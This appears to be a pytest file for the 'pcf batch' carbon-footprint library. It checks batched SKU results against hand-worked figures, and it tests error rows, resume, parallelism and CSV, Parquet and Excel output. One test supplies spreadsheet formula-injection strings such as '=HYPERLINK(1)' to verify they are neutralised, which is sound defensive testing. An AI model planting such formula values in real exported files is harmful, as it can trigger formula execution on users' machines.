"""``pcf batch`` (library): SKU rows evaluated as arrays equal the single run, hand-worked
figures, error records, resume, summary files, Excel tables, the example table.

Hand-worked model (``MODEL``, tests/builders.py's ``loop_model``): the loop of tests/test_lca.py
with three parameters (and no paint cut off), on the ``test-bg`` table (elec 0.5571 kg CO2e/kWh
with IPCC 2021 GWP100: 0.5 + 0.001 x 29.8 + 0.0001 x 273):

             a       b
    A =  a [ 1     -loop ]      f = [1, 0]^T
         b [-2      1    ]

    s_a = 1 / (1 - 2 loop),  s_b = 2 s_a

    a (production) per run: elec_a kWh elec + 1 kg CO2 fossil       = 0.5571 elec_a + 1
    b (raw material acquisition) per run: 1 kg steel (2), 1 tkm air (1, aircraft), 0.5 kg wood
      (fossil 0.05, biogenic 0.75, dLUC 0.1), 1 g N2O land use (0.273 dLUC), 0.3 kg CO2
      uptake (-0.3)                                                  = 3.873
    total = s_a (0.5571 elec_a + 1) + s_b 3.873;  declared units = cap x 10

    base (cap 2, loop 0.1, elec_a 10): s_a 1.25, total 1.25 x 6.571 + 2.5 x 3.873 = 17.89625
    R1 (cap 4, loop 0.2, elec_a 20):   s_a 5/3, s_b 10/3
        production 5/3 x 12.142 = 20.236667, raw material acquisition 10/3 x 3.873 = 12.91
        total 33.146667, per kWh 33.146667 / 40 = 0.82866667
        fossil 20.236667 + 10/3 x 3.05 = 30.403333, biogenic 10/3 x 0.75 = 2.5,
        removals -1, dLUC 10/3 x 0.373 = 1.243333, aircraft 10/3
    R2 (loop 0, elec_a 0): s_a 1, s_b 2: total 1 + 7.746 = 8.746, per kWh 8.746 / 20 = 0.4373
"""

from __future__ import annotations

import csv
import json
import math
import subprocess
import sys
import textwrap

import numpy as np
import pytest

from pcf.api import compute
from pcf.core.cells import safe_cell
from pcf.batch import SkuTable, run_batch
from pcf.batch.engine import figures_of_result, full_result, summarise_rows
from pcf.batch.plan import make_plan
from pcf.batch.table import SkuRow
from pcf.core.errors import TableError
from pcf.model.expressions import evaluate
from pcf.model.variants import Variants, vectorised
from tests.builders import loop_model
from tests.conftest import REPO

MODEL = loop_model(parameters={"cap": 2, "loop": 0.1, "elec_a": 10}, loop="loop", elec="elec_a", cut_off=False,
                   steel_power=True)

TABLE = textwrap.dedent("""\
    id,name,scenario,cap,loop,elec_a,# comment
    R1,first,,4,0.2,20,anything
    R2,,,,0,0,
    R3,singular,,2,0.5,10,
    R4,negative,,-1,,,
    R5,text,,abc,,,
    R1,duplicate,,4,0.2,20,
    R7,swap,steel_power,,,,
    """)

REL = 1e-6
IGNORED = {"created_at", "batch"}


@pytest.fixture
def model(write_model):
    return write_model(MODEL)


@pytest.fixture
def table(tmp_path):
    path = tmp_path / "skus.csv"
    path.write_text(TABLE, encoding="utf-8")
    return path


def _summary(out) -> dict:
    with open(out / "summary.csv", newline="", encoding="utf-8") as fh:
        return {int(r["row"]): r for r in csv.DictReader(fh)}


def _close(a, b, path="") -> list[str]:
    """Differences between two JSON values (numbers to REL), as paths."""
    if isinstance(a, dict) and isinstance(b, dict):
        return [d for k in set(a) | set(b) for d in _close(a.get(k), b.get(k), f"{path}.{k}")]
    if isinstance(a, list) and isinstance(b, list):
        if len(a) != len(b):
            return [f"{path}: {len(a)} != {len(b)} items"]
        return [d for i, (x, y) in enumerate(zip(a, b)) for d in _close(x, y, f"{path}[{i}]")]
    if isinstance(a, float) or isinstance(b, float):
        ok = a is not None and b is not None and math.isclose(a, b, rel_tol=REL, abs_tol=1e-9)
        return [] if ok else [f"{path}: {a} != {b}"]
    return [] if a == b else [f"{path}: {a!r} != {b!r}"]


def _same_as_footprint(result: dict, model, overrides: dict, scenario: str | None = None) -> list[str]:
    """Differences between a batch result and ``pcf footprint``'s for the same row, apart from
    the product's id and name (the SKU's), the time, the batch field and bw2calc's score (a
    batch runs bw2calc once per plan, not per SKU)."""
    single = compute(model, overrides=overrides, scenario=scenario).to_json()
    assert result["product"].pop("id") and single["product"].pop("id")
    result["product"].pop("name"), single["product"].pop("name")
    assert result["provenance"].pop("bw2calc_score") is None
    assert single["provenance"].pop("bw2calc_score") == pytest.approx(single["total_kg_co2e"], rel=REL)
    return _close({k: v for k, v in result.items() if k not in IGNORED},
                  {k: v for k, v in single.items() if k not in IGNORED})


def test_rows_match_hand_calculation_and_errors_are_records(bd, model, table, tmp_path):
    out = tmp_path / "out"
    report = run_batch(table, out, model, json_per_sku=True)
    assert (report.rows, report.computed, report.failed, report.skipped) == (7, 3, 4, 0)
    rows = _summary(out)
    r1 = rows[2]
    assert r1["id"] == "R1" and r1["status"] == "ok" and r1["name"] == "first"
    assert float(r1["total_kg_co2e"]) == pytest.approx(33.1466667, rel=REL)
    assert float(r1["per_declared_unit_kg_co2e"]) == pytest.approx(0.82866667, rel=REL)
    assert float(r1["production_kg_co2e"]) == pytest.approx(20.2366667, rel=REL)
    assert float(r1["raw_material_acquisition_kg_co2e"]) == pytest.approx(12.91, rel=REL)
    assert float(r1["production_share"]) == pytest.approx(20.2366667 / 33.1466667, rel=REL)
    assert r1["distribution_kg_co2e"] == "" and r1["distribution_share"] == ""
    assert float(r1["fossil_kg_co2e"]) == pytest.approx(30.4033333, rel=REL)
    assert float(r1["biogenic_emissions_kg_co2e"]) == pytest.approx(2.5, rel=REL)
    assert float(r1["biogenic_removals_kg_co2e"]) == pytest.approx(-1.0, rel=REL)
    assert float(r1["dluc_kg_co2e"]) == pytest.approx(1.2433333, rel=REL)
    assert float(r1["aircraft_kg_co2e"]) == pytest.approx(10 / 3, rel=REL)
    assert (float(r1["cap"]), float(r1["loop"]), float(r1["elec_a"])) == (4, 0.2, 20)
    r2 = rows[3]
    assert float(r2["total_kg_co2e"]) == pytest.approx(8.746, rel=REL)
    assert float(r2["per_declared_unit_kg_co2e"]) == pytest.approx(0.4373, rel=REL)
    assert float(r2["cap"]) == 2  # the model's value where the cell is empty
    # R7, the scenario: a's 10 kWh become 10 kg steel (20 kg CO2e instead of 5.571)
    assert float(rows[8]["total_kg_co2e"]) == pytest.approx(1.25 * 21 + 2.5 * 3.873, rel=REL)
    errors = {n: rows[n]["error"] for n in (4, 5, 6, 7)}
    assert all(rows[n]["status"] == "error" for n in errors)
    assert errors[4].startswith("row 4: ") and "singular" in errors[4]
    assert errors[5].startswith("row 5: ") and f"{model}:7:" in errors[5] and "must be positive" in errors[5]
    assert errors[6] == ("row 6: cap: 'abc' is not a number (parameters are plain numbers in the units "
                         "the model states for them)")
    assert errors[7] == "row 7: duplicate id 'R1' (first on row 2)"
    assert sorted(p.name for p in out.glob("*.result.json")) == ["R1.result.json", "R2.result.json", "R7.result.json"]
    assert len(report.errors) == 4


def test_results_equal_pcf_footprint(bd, model, table, tmp_path):
    """Every field of the result JSON, contributions, stages and ISO 14067 split included."""
    out = tmp_path / "out"
    run_batch(table, out, model, json_per_sku=True)
    r1 = json.loads((out / "R1.result.json").read_text())
    assert r1["product"]["id"] == "R1" and r1["product"]["name"] == "first"
    assert r1["batch"]["row"] == 2 and r1["batch"]["model_product"]["id"] == "LOOP"
    assert r1["batch"]["overrides"] == {"cap": 4.0, "loop": 0.2, "elec_a": 20.0}
    assert _same_as_footprint(r1, model, {"cap": 4, "loop": 0.2, "elec_a": 20}) == []
    r7 = json.loads((out / "R7.result.json").read_text())
    assert r7["scenario"]["name"] == "steel_power"
    assert _same_as_footprint(r7, model, {}, "steel_power") == []


def test_summary_only_gives_the_same_figures(bd, model, table, tmp_path):
    full, fast = tmp_path / "full", tmp_path / "fast"
    run_batch(table, full, model)
    report = run_batch(table, fast, model, results=False)
    assert report.computed == 3 and not list(fast.glob("*.result.json"))
    a, b = _summary(full), _summary(fast)
    for n in a:
        for col in a[n]:
            if col in ("conforms", "nonconformities", "performance_class", "result_file"):
                continue  # the PCR verdict needs the full result
            x, y = a[n][col], b[n][col]
            if col.endswith(("_kg_co2e", "_share", "_unit")) and x and y and x[0] in "-0123456789":
                assert float(x) == pytest.approx(float(y), rel=1e-12), (n, col)
            else:
                assert x == y, (n, col)


def test_a_plan_carries_its_model_parse_and_scenario_check_to_a_worker(open_default):
    """A worker process receives the plan pickled: its rows load the model under plan.files()
    without parsing the YAML or checking the scenarios again (the NMC811 pack's first row in
    a worker took 0.32 s of CPU, 0.05 s with them). The parse and the check a worker finds
    are the driver's, keyed by the model's content, and the rows load as before."""
    import hashlib
    import pickle
    from pathlib import Path

    from pcf.core import yamlsrc
    from pcf.model import load_model, loader

    path = str(REPO / "examples" / "battery" / "nmc811-pack.yaml")
    plan = make_plan(path, "plant_de")
    before = load_model(path, overrides={"capacity_kwh": 70.0}, scenario="plant_de")
    text = Path(path).read_text(encoding="utf-8")
    key = (path, hashlib.sha256(text.encode("utf-8")).hexdigest())
    worker = pickle.loads(pickle.dumps(plan))
    yamlsrc._PARSED.clear()  # what a fresh worker process knows
    loader._SCENARIOS_CHECKED.clear()
    with worker.files():
        assert key in yamlsrc._PARSED and any(mark[0] == path for mark in loader._SCENARIOS_CHECKED)
        after = load_model(path, overrides={"capacity_kwh": 70.0}, scenario="plant_de")
    assert after.sha256 == before.sha256 and after.parameters == before.parameters
    assert [p.inputs for p in after.processes.values()] == [p.inputs for p in before.processes.values()]


def test_arrays_equal_single_runs_for_random_variants(bd, model):
    """The array path (loader on arrays, batched block solve of the loop) gives every row the
    figures of its own full result."""
    plan = make_plan(str(model), "")
    rng = np.random.default_rng(7)
    rows = [SkuRow(i, f"V{i}", "", str(model), "", {"cap": float(rng.uniform(1, 9)), "loop": float(rng.uniform(0, 0.45)),
                                                     "elec_a": float(rng.uniform(0, 50))}) for i in range(2, 42)]
    done, rest, note = summarise_rows(plan, rows)
    assert note == "" and rest == [] and len(done) == 40
    for row in rows[::7]:
        single = figures_of_result(full_result(plan, row), plan)
        for key, value in single.items():
            if isinstance(value, float):
                assert done[row.row][key] == pytest.approx(value, rel=1e-9), key
            else:
                assert done[row.row][key] == value, key


@pytest.mark.parametrize("name", ["battery/nmc811-pack.yaml", "battery/lfp-pack.yaml", "battery/nmc622-pack.yaml",
                                  "pv/mono-si-module-cn.yaml"])
def test_example_models_take_the_array_path(open_default, name):
    """Every example model loads on arrays (no code in the loader that arrays cannot take) and
    its variants (every parameter x 0.8 .. 1.2) equal their single runs."""
    path = str(REPO / "examples" / name)
    plan = make_plan(path, "")
    rng = np.random.default_rng(3)
    rows = [SkuRow(i, f"V{i}", "", path, "", {k: v * float(rng.uniform(0.8, 1.2)) for k, v in plan.parameters.items()})
            for i in range(2, 5)]
    done, rest, note = summarise_rows(plan, rows)
    assert (note, rest) == ("", [])
    for row in rows:
        single = figures_of_result(full_result(plan, row), plan)
        assert set(single) == set(done[row.row])
        for key, value in single.items():
            if isinstance(value, float):
                assert done[row.row][key] == pytest.approx(value, rel=1e-9), key
            else:
                assert done[row.row][key] == value, key


def test_rows_that_decide_differently_are_computed_alone(bd, write_model):
    """A transport leg's chargeable mass is max(mass, volume x 333.3 kg/m3 for road): rows on
    the other side of the max (and a negative volume the loader refuses) leave the array path
    and are computed by the scalar loader.

    leg: 100 km by lorry; tkm = max(mass, volume x 1e6/3000) / 1000 x 100, at 1 kg CO2e/tkm
    (the lorry activity is test-bg's air row): mass 30 kg, volume 0.06 m3 -> 20 kg -> 3 tkm;
    volume 0.12 m3 -> 40 kg -> 4 tkm.
    """
    path = write_model(textwrap.dedent("""\
        format: pcf-model/1
        product: {id: LEG, name: leg, process: p, reference_flow: {amount: 1, unit: item}}
        study: {background: test-bg}
        parameters: {mass: 30, volume: 0.06}
        processes:
          - id: p
            name: P
            stage: distribution
            output: {amount: 1, unit: item}
            transport:
              - {mode: lorry, distance: 100, mass: mass, volume: volume, activity: {background: air}}
        """))
    plan = make_plan(str(path), "")
    rows = [SkuRow(2, "A", model=str(path), overrides={"volume": 0.06}),
            SkuRow(3, "B", model=str(path), overrides={"volume": 0.12}),
            SkuRow(4, "C", model=str(path), overrides={"volume": -1.0})]
    done, rest, note = summarise_rows(plan, rows)
    assert note == "" and set(done) == {2} and [r.row for r in rest] == [3, 4]
    assert done[2]["total_kg_co2e"] == pytest.approx(3.0, rel=REL)
    assert figures_of_result(full_result(plan, rows[1]), plan)["total_kg_co2e"] == pytest.approx(4.0, rel=REL)


def test_resume_skips_done_rows_and_force_recomputes(bd, model, table, tmp_path):
    out = tmp_path / "out"

    class Killed(Exception):
        pass

    def kill_after_two(done, total):
        if done >= 2:
            raise Killed

    with pytest.raises(Killed):  # killed after the first chunks (one row each)
        run_batch(table, out, model, chunk_size=1, progress=kill_after_two, json_per_sku=True)
    state = (out / "batch-state.jsonl").read_text().splitlines()
    finished = [json.loads(line)["id"] for line in state if '"status":"ok"' in line]
    assert finished and not (out / "summary.csv").exists()
    with open(out / "batch-state.jsonl", "a", encoding="utf-8") as fh:
        fh.write('{"row": 9, "id": "cut sh')  # a line cut short by the kill
    mtimes = {p.name: p.stat().st_mtime_ns for p in out.glob("*.result.json")}
    report = run_batch(table, out, model, json_per_sku=True)
    assert report.skipped == len(finished) and report.computed == 3 - len(finished) and report.failed == 4
    assert all((out / f"{sku}.result.json").stat().st_mtime_ns == mtimes[f"{sku}.result.json"] for sku in finished)
    assert _summary(out)[2]["status"] == "ok"
    again = run_batch(table, out, model, json_per_sku=True)
    assert (again.skipped, again.computed) == (3, 0)
    # a changed row is computed again, an unchanged one is not
    table.write_text(TABLE.replace("R2,,,,0,0,", "R2,,,,0,1,"), encoding="utf-8")
    changed = run_batch(table, out, model, json_per_sku=True)
    assert (changed.skipped, changed.computed) == (2, 1)
    assert float(_summary(out)[3]["total_kg_co2e"]) == pytest.approx(8.746 + 0.5571, rel=REL)
    forced = run_batch(table, out, model, force=True, json_per_sku=True)
    assert (forced.skipped, forced.computed) == (0, 3)


def test_parallel_processes_give_the_same_summary(bd, model, table, tmp_path):
    run_batch(table, tmp_path / "one", model)
    run_batch(table, tmp_path / "two", model, jobs=2, chunk_size=2)
    a, b = _summary(tmp_path / "one"), _summary(tmp_path / "two")
    assert a.keys() == b.keys()
    for n in a:
        assert {k: v for k, v in a[n].items()} == {k: v for k, v in b[n].items()}


def test_parquet_summary_and_excel_table(bd, model, table, tmp_path):
    import pyarrow.parquet as pq
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for line in csv.reader(TABLE.splitlines()):
        ws.append([float(c) if c.replace(".", "", 1).replace("-", "", 1).isdigit() else (c or None) for c in line])
    xlsx = tmp_path / "skus.xlsx"
    wb.save(xlsx)
    run_batch(xlsx, tmp_path / "x", model, results=False)
    run_batch(table, tmp_path / "c", model, results=False)
    assert _summary(tmp_path / "x") == _summary(tmp_path / "c")
    parquet = pq.read_table(tmp_path / "c" / "summary.parquet").to_pylist()
    assert [r["id"] for r in parquet] == ["R1", "R2", "R3", "R4", "R5", "R1", "R7"]
    assert parquet[0]["total_kg_co2e"] == pytest.approx(33.1466667, rel=REL)
    assert parquet[3]["status"] == "error" and parquet[3]["total_kg_co2e"] is None


def test_unknown_parameter_is_a_row_error(bd, model, tmp_path):
    path = tmp_path / "skus.csv"
    path.write_text("id,watts,cap\nA,,3\nB,5,3\n", encoding="utf-8")
    report = run_batch(path, tmp_path / "out", model)
    assert (report.computed, report.failed) == (1, 1)
    rows = _summary(tmp_path / "out")
    assert rows[3]["error"].startswith(f"row 3: {model}:")
    assert "override of unknown parameter 'watts'" in rows[3]["error"]


@pytest.mark.parametrize("text, message", [
    ("name,cap\nA,1\n", "the table needs an 'id' column"),
    ("id,cap,cap\nA,1,2\n", "column 'cap' appears twice"),
    ("", "the table has no header row"),
])
def test_unreadable_tables_raise(tmp_path, text, message):
    path = tmp_path / "skus.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(TableError) as info:
        SkuTable(path, "m.yaml")
    assert str(info.value).startswith(f"{path}:1: ") and message in str(info.value)


def test_table_rows(tmp_path):
    path = tmp_path / "skus.csv"
    path.write_text("ID,Name,model,label,report,cap\n"
                    "a-1,first,m.yaml,yes,0,3\n"
                    ",,,,,\n"
                    ".bad,,,maybe,,75 kWh\n", encoding="utf-8")
    rows = list(SkuTable(path, "default.yaml"))
    assert [r.row for r in rows] == [2, 4]  # the blank line 3 is skipped
    a, bad = rows
    assert a.model == str(tmp_path / "m.yaml") and a.label and not a.report and a.overrides == {"cap": 3.0}
    assert bad.model == "default.yaml"
    assert "id '.bad' is not a file name" in bad.error
    assert "label: 'maybe' is not yes/no" in bad.error
    assert "cap: '75 kWh' is not a number" in bad.error and "drop the unit" in bad.error


def test_an_sku_id_longer_than_160_characters_is_refused_with_its_row(tmp_path):
    """A product id is at most 160 characters (file names, an issued label's QR code): a longer SKU id is
    that row's error, read as the table is read, by the row-at-a-time reader and the columnar one alike;
    160 is kept."""
    path = tmp_path / "skus.csv"
    path.write_text(f"id,cap\n{'A' * 160},3\n{'B' * 161},4\n", encoding="utf-8")
    ok, long = list(SkuTable(path, "m.yaml"))
    assert not ok.error and ok.id == "A" * 160
    assert "is not a file name" in long.error and "at most 160 characters" in long.error
    columns = SkuTable(path, "m.yaml").columns()
    assert list(columns.ids) == ["A" * 160, "B" * 161]
    assert not columns.errors[0] and "at most 160 characters" in columns.errors[1]


# the usual shape, with what a cell may hold: the header and first rows, then rows of odd cells
HEAD = "ID,Name,model,label,report,cap,#note\na-1, first ,m.yaml,YES,0,3,x\n,,,,,,\n"
CELLS = (".bad,,,maybe,,75 kWh,\n"
         "b_2,,,x,, 1_000 ,\n"
         "c.3,,,,,nan,\n"
         "d4,,,,,-inf,\n"
         "e5,,sub,,,,\n"
         "A,,,,,1e-320,\n"
         "A,,,,,-0.0,\n"
         ",name only,,,,,\n")
PLAIN = (HEAD + CELLS + "f6,\u00a0spaced\x1f,,n,true,\u0661\u0662,\n"
         + "".join(f"r{i},,,,,{[' 3', '3', '', '4.5 ', 'x'][i % 5]},\n" for i in range(40)))


@pytest.mark.parametrize("text, plain", [
    # the usual shape with an empty line and quoted cells
    (HEAD + "\n" + CELLS + "f6,\"quoted, with comma\",,n,true,\u0661\u0662,\n" "g7,\"two\nlines\",,,,2,\n", False),
    # ragged rows and an unnamed column: row by row
    ("id,,cap\nA,1,2\nB\nC,1,2,3\n", False),
    ("id,cap\nA,1\nB,2,3\n", False),
    # plain tables (no quote, empty line or lone carriage return): pyarrow's CSV reader
    (PLAIN, True),
    ("\ufeff" + PLAIN.replace("\n", "\r\n"), True),
    (PLAIN.replace("r3,", "r3,\r"), False),
    (PLAIN + "\n", False),
])
def test_table_columns_are_the_rows(tmp_path, text, plain):
    """``SkuTable.columns`` (the whole table read once, checked column by column; a plain table
    read by pyarrow's CSV reader, each distinct parameter text read once) gives every row
    exactly as reading the table row by row does: values, row numbers and messages."""
    from pcf.batch.table import _plain_table

    (tmp_path / "sub").mkdir()
    path = tmp_path / "skus.csv"
    path.write_bytes(text.encode("utf-8"))
    table = SkuTable(path, "default.yaml")
    rows = list(table)
    cols = table.columns()
    assert [cols.row(i) for i in range(len(cols))] == rows == cols.make_rows(0, len(cols))
    assert (_plain_table(table) is not None) == plain
    if "b_2" in text:
        by_id = {r.id: r for r in rows}
        assert by_id["b_2"].overrides == {"cap": 1000.0} and by_id["b_2"].label  # float() reads 1_000
        assert by_id["f6"].overrides == {"cap": 12.0} and by_id["f6"].report  # and Arabic-Indic digits
        if "g7" in text:
            assert by_id["f6"].name == "quoted, with comma" and by_id["g7"].row == 14  # rows as a spreadsheet numbers them
        elif plain:
            assert by_id["f6"].name == "spaced" and by_id["r3"].overrides == {"cap": 4.5} and by_id["r39"].row == 52
            assert "'x' is not a number" in by_id["r4"].error and by_id["r7"].overrides == {}
        assert "not a finite number" in by_id["c.3"].error and "not a finite number" in by_id["d4"].error
        assert "is a folder" in by_id["e5"].error and by_id["a-1"].name == "first"


def test_a_second_batch_uses_the_kept_plan_and_parses_no_yaml(bd, model, table, tmp_path, monkeypatch):
    """A batch keeps each plan whole (pcf.batch.plan: its preparation, parameters, PCR, the bytes
    of the files it read and their YAML parses): the next batch of the unchanged model parses no
    YAML, neither for its plans nor for its rows (the parses counted, in a process that forgot its
    own), and writes the same summary; the kept plan is the plan prepared anew; a changed model
    file is parsed and prepared again."""
    from pcf.core import yamlsrc

    run_batch(table, tmp_path / "one", model, results=False)
    parses = []
    real = yamlsrc._parse
    monkeypatch.setattr(yamlsrc, "_parse", lambda text: parses.append(text) or real(text))
    yamlsrc._PARSED.clear()  # as a new process
    run_batch(table, tmp_path / "two", model, results=False)
    assert parses == []
    assert (tmp_path / "two" / "summary.csv").read_bytes() == (tmp_path / "one" / "summary.csv").read_bytes()
    for scenario in ("", "steel_power"):
        kept, fresh = make_plan(str(model), scenario, {}, "summary"), make_plan(str(model), scenario, {})
        assert (kept.fingerprint, kept.parameters, kept.product, kept.model_sha256, kept.pcr, kept.sources) == \
            (fresh.fingerprint, fresh.parameters, fresh.product, fresh.model_sha256, fresh.pcr, fresh.sources)
        assert kept.prepared.background_cache == "warm" and list(kept.prepared.char.index) == \
            list(fresh.prepared.char.index)
    parses.clear()
    model.write_text(model.read_text(encoding="utf-8").replace("cap: 2", "cap: 3"), encoding="utf-8")
    changed = make_plan(str(model), "", {}, "summary")
    assert parses and changed.parameters["cap"] == 3 and changed.model_sha256 != kept.model_sha256


def test_a_warm_batch_imports_neither_brightway_nor_pandas(bd, model, table, tmp_path):
    """A second ``pcf batch --summary-only`` of an unchanged model, in a fresh process as a user
    runs it, imports no Brightway module and not pandas (pyarrow would import it, 0.3 s, on its
    first list: pcf.core.extras.arrow_without_pandas), and writes the same summary."""
    from tests.test_light_imports import DRIVER
    from tests.test_warm_footprint import BRIGHTWAY, USER_ENV

    run_batch(table, tmp_path / "one", model, results=False)
    record = tmp_path / "modules.json"
    proc = subprocess.run([sys.executable, "-c", DRIVER, str(record), "batch", str(table), "--model", str(model),
                           "--out", str(tmp_path / "two"), "--summary-only"], cwd=REPO, env=USER_ENV,
                          capture_output=True, text=True, timeout=300)
    found = json.loads(record.read_text())
    assert found["code"] == 1, proc.stderr  # the table's bad rows
    assert not {m.split(".")[0] for m in found["modules"]} & {*BRIGHTWAY, "pandas"}
    assert "pyarrow" in found["modules"]
    assert (tmp_path / "two" / "summary.csv").read_bytes() == (tmp_path / "one" / "summary.csv").read_bytes()


def test_summary_jobs_start_workers_only_when_they_pay(bd, model, table, tmp_path, monkeypatch):
    """``--summary-only --jobs 2`` computes in this process while the rows left would take less
    CPU here than the workers' start-up (pcf.batch.run.STARTUP_S, judged from the chunks computed
    so far): the small table starts no worker; with a start-up of 0 s the workers take over after
    the first chunk. The summary is the one-process summary either way."""
    from pcf.batch import run

    one = run_batch(table, tmp_path / "one", model, results=False)
    two = run_batch(table, tmp_path / "two", model, jobs=2, results=False, chunk_size=2)
    assert (one.workers, two.workers) == (0, 0)
    monkeypatch.setattr(run, "STARTUP_S", 0.0)
    pool = run_batch(table, tmp_path / "pool", model, jobs=2, results=False, chunk_size=2)
    assert pool.workers == 2
    for out in ("two", "pool"):
        assert (tmp_path / out / "summary.csv").read_bytes() == (tmp_path / "one" / "summary.csv").read_bytes()
    assert (pool.computed, pool.failed) == (one.computed, one.failed)


def test_input_hashes_by_column_are_each_rows_input_hash(tmp_path):
    """``input_hashes`` (every row's hash at once, column by column, each distinct value of a
    parameter column formatted once) gives each row's ``input_hash``: empty cells, flags, two
    models (two fingerprints), a row without a plan (None), and ``Columns.take`` keeps the rows
    (a run of positions sliced, others picked)."""
    from pcf.batch.engine import input_hash, input_hashes
    from pcf.batch.table import SkuTable

    rng = np.random.default_rng(7)
    n = 6000  # above the distinct-values formatting's threshold
    lines = ["id,model,cap,life,label"]
    for i in range(n):
        cap = "" if i % 97 == 0 else str(int(rng.integers(40, 121)))
        lines.append(f"S{i},{'b.yaml' if i % 5 == 0 else ''},{cap},{rng.uniform(4.5, 5.5):.3f},{'x' if i % 7 == 0 else ''}")
    path = tmp_path / "skus.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    cols = SkuTable(path, "a.yaml").columns()

    class Print:
        def __init__(self, fingerprint):
            self.fingerprint = fingerprint

    plans = {(str(tmp_path / "b.yaml"), ""): Print("f" * 64), ("a.yaml", ""): Print("a" * 64)}
    hashes = input_hashes(cols, plans)
    for i in [0, 1, 5, 7, 97, 194, 2000, n - 1]:
        row = cols.row(i)
        assert hashes[i] == input_hash(plans[row.model, row.scenario], row), i
    assert input_hashes(cols, {("a.yaml", ""): Print("a" * 64)})[5] is None  # no plan: no hash
    one = cols.take(np.flatnonzero(np.array(cols.models) == "a.yaml"))
    assert input_hashes(one, plans) == [h for h, m in zip(hashes, cols.models) if m == "a.yaml"]
    assert [one.row(i) for i in range(3)] == [cols.row(i) for i in (1, 2, 3)]
    assert cols.take(range(3, 9)).make_rows(0, 6) == cols.make_rows(3, 9)


def test_table_columns_in_blocks_and_errors(tmp_path, monkeypatch):
    """A table longer than one block of columns gives the same rows; a quote never closed is the
    same error at the same line as reading row by row."""
    from pcf.batch import table as tables

    monkeypatch.setattr(tables, "BLOCK", 3)
    path = tmp_path / "skus.csv"
    path.write_text("id,cap\n" + "".join(f"S{i},{i}\n" for i in range(10)) + "bad,\n", encoding="utf-8")
    table = SkuTable(path, "m.yaml")
    cols = table.columns()
    assert [cols.row(i) for i in range(len(cols))] == list(table) and len(cols) == 11
    assert cols.values["cap"][:10].tolist() == [float(i) for i in range(10)] and np.isnan(cols.values["cap"][10])
    path.write_text("id,cap\nA,1\nB,\"2\nC,3\n", encoding="utf-8")
    with pytest.raises(TableError) as columns:
        SkuTable(path, "m.yaml").columns()
    with pytest.raises(TableError) as rows:
        list(SkuTable(path, "m.yaml"))
    assert str(columns.value) == str(rows.value) and f"{path}:3:" in str(columns.value)


def test_summary_csv_lines_are_what_the_csv_module_writes():
    """summary.csv is written column by column in Arrow (pcf.batch.summary.csv_lines): every
    cell as the csv module writes the row-by-row summary's (floats as repr(), text neutralised
    and quoted where needed, None empty)."""
    import io

    import pyarrow as pa

    from pcf.batch.summary import _texts, csv_lines

    floats = [0.0, -0.0, 1.0, 123.0, 0.1, 1e-4, 9.99e-5, 1e-5, 2.5e-7, 5e-324, 1e15, 9999999999999998.0, 1e16,
              1.2345678901234568e17, -58972577892.02752, 1e308, None, 3.3333333333333335, 1e22]
    n = len(floats)
    texts = ["plain", "=HYPERLINK(1)", "-1", "+x", "@a", "\tt", "\rr", "a,b", 'q"uote', "line\nbreak", "",
             None, "ünï", "'", " sp ", "x\r\ny", '"', "-", "ok"]
    ints = [1, None, -3, 0, 10**15] + [7] * (n - 5)
    bools = [True, False, None] + [True] * (n - 3)
    kinds = ["float", "str", "int", "bool"]
    block = pa.table({"f": pa.array(floats, pa.float64()), "s": pa.array(texts, pa.string()),
                      "i": pa.array(ints, pa.int64()), "b": pa.array(bools, pa.bool_())})
    expected = io.StringIO(newline="")
    csv.writer(expected).writerows(zip(*(_texts(block.column(k).to_pylist(), t) for k, t in zip("fsib", kinds))))
    assert csv_lines(block, kinds) == expected.getvalue()
    rng = np.random.default_rng(5)
    values = np.concatenate([rng.lognormal(0, 12, 20000), -rng.uniform(0, 1e4, 5000), rng.integers(-9, 9, 500) * 1.0])
    block = pa.table({"f": pa.array(values, pa.float64())})
    assert csv_lines(block, ["float"]) == "".join(f"{v!r}\r\n" for v in values.tolist())
    # few distinct values (a parameter column: each written once, repeated), with nulls; one value
    # throughout; text and nothing but nulls throughout
    values = [None if i % 11 == 0 else [40.0, 1e16, 2.5e-7, -0.0, 4.747, 1e22][i % 6] for i in range(9000)]
    block = pa.table({"f": pa.array(values, pa.float64()), "c": pa.array([-58.5] * 9000, pa.float64()),
                      "s": pa.array(["a, b"] * 9000, pa.string()), "n": pa.nulls(9000, pa.string())})
    expected = io.StringIO(newline="")
    csv.writer(expected).writerows(zip(*(_texts(block.column(k).to_pylist(), t)
                                         for k, t in zip("fcsn", ["float", "float", "str", "str"]))))
    assert csv_lines(block, ["float", "float", "str", "str"]) == expected.getvalue()


@pytest.mark.parametrize("strict", [False, True])
def test_classes_of_arrays_match_classify(strict):
    from pcf.batch.engine import classes_of
    from pcf.pcr import load_pcr
    from pcf.pcr.assess import classify

    classes = load_pcr("eu-battery-cfb-ev").performance_classes.model_copy(update={"strict": strict})
    edges = [t.max for t in classes.thresholds if t.max is not None]
    values = np.array(sorted(edges + [e * (1 + d) for e in edges for d in (-1e-9, 1e-9)] + [-1.0, 0.0, 10.0]) + [np.nan])
    expected = [(classify(float(v), classes) or {}).get("class") for v in values]
    assert classes_of(values, classes) == expected
    assert len(set(expected) - {None}) == len(classes.thresholds)  # every class is reached


def test_variants_decide_for_the_reference_row():
    a = Variants([1.0, 2.0, -1.0])
    with pytest.raises(TypeError):
        bool(a > 0)  # outside vectorised(): ambiguous, as for numpy
    with vectorised(3) as state:
        assert bool(a > 0) is True
        assert max(a, Variants([1.5, 1.5, 1.5])) is not None
        # min/max of an expression are elementwise, not decisions
        value = evaluate("max(x, 1.5) / (x - 2)", {"x": a})
    assert state.diverged.tolist() == [False, True, True]  # row 1 and 2 decided otherwise, row 1 divides by 0
    assert value[0] == pytest.approx(1.5 / -1) and value[2] == pytest.approx(1.5 / -3)


def test_example_table_and_its_results(open_default, tmp_path):
    """The example SKU table: 252 variants of the NMC811 and LFP packs; a sample of rows equals
    ``pcf footprint`` of the same model, scenario and parameters."""
    skus = REPO / "examples" / "battery" / "skus.csv"
    table = SkuTable(skus)
    rows = list(table)
    assert len(rows) >= 200 and not any(r.error for r in rows)
    assert {r.scenario for r in rows} >= {"", "grid_east_china", "plant_cn_south", "plant_de", "plant_pl"}
    caps = [r.overrides["capacity_kwh"] for r in rows]
    assert min(caps) == 40 and max(caps) == 120
